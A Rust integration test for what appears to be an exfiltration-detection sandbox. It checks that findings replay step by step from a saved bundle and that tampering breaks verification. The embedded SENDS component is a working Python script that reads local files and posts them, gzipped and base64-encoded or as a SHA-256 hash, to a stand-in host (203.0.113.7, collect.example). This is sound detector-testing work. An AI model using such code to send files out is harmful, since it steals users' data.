//! Claim: a finding can be replayed from its bundle alone: each decoding with its places, and what
//! left next to the decoy's own bytes; a bundle that was changed does not hold.
#![allow(missing_docs, reason = "a test")]

use belljar_tests::made::{component, scenario};
use belljar_tests::{Belljar, Ended, fresh_seed};
use serde_json::Value;
use std::process::Command;

/// Sends one file gzipped in base64, one in hexadecimal digits, and the SHA-256 of the third.
const SENDS: &str = "
import base64, gzip, hashlib, socket
scan()
root = sys.argv[1]
def read(name):
    with open(os.path.join(root, name), 'rb') as file:
        return file.read()
def post(path, body):
    with socket.create_connection(('203.0.113.7', 80), timeout=30) as there:
        head = f'POST {path} HTTP/1.1\\r\\nHost: collect.example\\r\\nContent-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n'
        there.sendall(head.encode() + body)
        while there.recv(65536):
            pass
post('/nested', b'data=' + base64.b64encode(gzip.compress(read('notes.txt'))))
post('/hash', b'{\"h\": \"' + hashlib.sha256(read('plans.txt')).hexdigest().encode() + b'\"}')
";

fn explain(belljar: &Belljar, id: &str, more: &[&str]) -> Ended {
    let began = std::time::Instant::now();
    let output = Command::new(belljar_tests::binary())
        .arg("explain")
        .arg(belljar.bundle())
        .arg(id)
        .args(more)
        .output()
        .expect("belljar starts");
    Ended::from((output, began.elapsed()))
}

fn json(ended: &Ended) -> Value {
    serde_json::from_str(&ended.stdout).unwrap_or_else(|_| panic!("is JSON: {}", ended.stdout))
}

/// The id of the first finding of this class.
fn of_class(verdict: &Value, class: &str) -> String {
    let findings = verdict["findings"].as_array().expect("is a list");
    findings
        .iter()
        .find(|finding| finding["class"] == class)
        .and_then(|finding| finding["id"].as_str())
        .unwrap_or_else(|| panic!("no finding of class {class}: {findings:#?}"))
        .to_owned()
}

#[test]
fn a_nested_finding_and_a_hash_are_replayed_step_by_step() {
    let mut belljar = Belljar::run("made.toml", fresh_seed(), &[]);
    belljar.file("made.toml", &scenario("", ""));
    let component = component(&belljar, SENDS);
    belljar.command.arg("--component").arg(component);
    assert_eq!(belljar.end().code, 1);
    let verdict = belljar.verdict();

    // The nested one.
    let id = of_class(&verdict, "whole-file");
    let told = explain(&belljar, &id, &["--format", "json"]);
    assert_eq!(told.code, 0, "{}{}", told.stdout, told.stderr);
    let told = json(&told);
    assert_eq!(told["holds"], true);
    let steps = told["steps"].as_array().expect("is a list");
    let decodings: Vec<&str> = steps.iter().filter_map(|step| step["decoding"].as_str()).collect();
    assert_eq!(decodings, ["base64", "gzip"]);
    // Each step reads what the one before gives, and the last gives the decoy.
    let number = |value: &Value| value.as_u64().expect("is a number");
    assert!(number(&steps[0]["reads-from"]) > 60 && number(&steps[0]["reads-to"]) > 200);
    // Letters before the value are digits of base64, too.
    assert!(number(&steps[1]["reads-from"]) < 12);
    assert!(number(&steps[1]["reads-to"]) <= number(&steps[0]["gives"]));
    assert!(steps[1]["input"]["hex"].as_str().is_some_and(|hex| hex.starts_with("1f8b08")));
    assert_eq!(steps[1]["gives"], 12 << 10);
    let compared = told["compared"].as_array().expect("is a list");
    assert_eq!(
        (&compared[0]["len"], &compared[0]["equal"]),
        (&(12 << 10).into(), &(12 << 10).into())
    );
    assert_eq!(compared[0]["left"]["hex"], compared[0]["planted"]["hex"]);
    assert_eq!(told["decoy"]["as-in-manifest"], true);

    // For people: both sides, the offsets, and what holds.
    let words = explain(&belljar, &id, &[]);
    assert_eq!(words.code, 0);
    for piece in
        ["Step 1: base64", "Step 2: gzip", "= planted  00000000", "HOLDS. 12,288 of 12,288"]
    {
        assert!(words.stdout.contains(piece), "{piece}: {}", words.stdout);
    }

    // The hash, computed again.
    let told = explain(&belljar, &of_class(&verdict, "hash"), &["--format", "json"]);
    assert_eq!(told.code, 0, "{}{}", told.stdout, told.stderr);
    let told = json(&told);
    assert_eq!(told["steps"][0]["decoding"], "hex");
    assert!(told["compared"][0]["what"].as_str().is_some_and(|what| what.contains("SHA-256")));
    assert_eq!(told["compared"][0]["equal"], 32);

    // A trace by its number; and nothing where there is nothing.
    assert_eq!(explain(&belljar, "T1", &[]).code, 0);
    let unknown = explain(&belljar, "F99", &[]);
    assert_eq!(unknown.code, 2, "{}", unknown.stderr);

    // A byte of the decoy changed, or of the payload: it does not hold any more.
    let payload = belljar.bundle().join("payloads").join(
        json(&explain(&belljar, &id, &["--format", "json"]))["payload"]["sha256"]
            .as_str()
            .expect("is text"),
    );
    let mut bytes = std::fs::read(&payload).expect("is there");
    let place = bytes.len() - 100;
    bytes[place] = if bytes[place] == b'A' { b'B' } else { b'A' };
    std::fs::write(&payload, bytes).expect("can be written");
    let changed = explain(&belljar, &id, &[]);
    assert_eq!(changed.code, 1, "{}", changed.stdout);
    assert!(changed.stdout.contains("DOES NOT HOLD"), "{}", changed.stdout);
}
